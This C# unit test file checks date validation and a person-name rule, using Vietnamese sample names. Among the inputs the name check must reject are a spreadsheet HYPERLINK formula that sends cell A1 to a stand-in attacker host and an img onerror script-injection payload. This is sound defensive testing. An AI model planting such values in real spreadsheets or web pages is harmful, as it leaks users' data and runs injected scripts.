using CoSo.Core.Common;
using CoSo.Core.People;

namespace CoSo.Core.Tests.Common;

public sealed class DateRulesTests
{
    [Theory]
    [InlineData("1900-01", true)]
    [InlineData("2100-12", true)]
    [InlineData("2026-11", true)]
    [InlineData("1899-12", false)]
    [InlineData("2101-01", false)]
    [InlineData("9999-12", false)] // security finding B15: a 500 before
    [InlineData("0001-01", false)]
    [InlineData("2026-13", false)]
    [InlineData("2026-1", false)]
    [InlineData("abc", false)]
    [InlineData(null, false)]
    public void A_month_is_yyyy_MM_between_1900_and_2100(string? text, bool valid) =>
        Assert.Equal(valid, DateRules.TryParseMonth(text, out _));

    [Fact]
    public void An_event_date_is_refused_outside_the_bound_in_the_future_or_before_birth()
    {
        var today = new DateOnly(2026, 11, 20);
        string Codes(DateOnly d, DateOnly? born = null)
        {
            var e = new ValidationErrors();
            DateRules.CheckEvent(e, "onsetDate", d, today, born);
            return string.Join(',', e.Errors.Select(x => x.Code));
        }

        Assert.Equal(string.Empty, Codes(today));
        Assert.Equal(string.Empty, Codes(new DateOnly(1900, 1, 1)));
        Assert.Equal("date.range", Codes(new DateOnly(1899, 12, 31)));
        Assert.Equal("date.range", Codes(DateOnly.MinValue));
        Assert.Equal("date.future", Codes(today.AddDays(1)));
        Assert.Equal("date.beforeBirth", Codes(new DateOnly(1959, 12, 31), DateRules.BornOn(null, 1960)));
        Assert.Equal(string.Empty, Codes(new DateOnly(1960, 1, 1), DateRules.BornOn(null, 1960)));
    }

    [Theory]
    [InlineData("Nguyễn Văn An", null)]
    [InlineData("Đặng Thị Ngọc-Ánh", null)]
    [InlineData("Khách vãng lai", null)]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm xem\")", "name.invalid")]
    [InlineData("<img src=x onerror=alert(1)> Văn", "name.invalid")]
    [InlineData("Nguyễn Văn 3fa2b1", "name.invalid")]
    [InlineData("An", "name.invalid")]
    [InlineData("", "required")]
    public void The_name_rule_of_residents_and_of_cases_outside_the_registry(string name, string? code)
    {
        var errors = new ValidationErrors();
        PersonRules.CheckName(errors, "nonResidentName", name);
        Assert.Equal(code, errors.Errors.SingleOrDefault()?.Code);
        Assert.All(errors.Errors, e => Assert.Equal("nonResidentName", e.Field));
    }
}
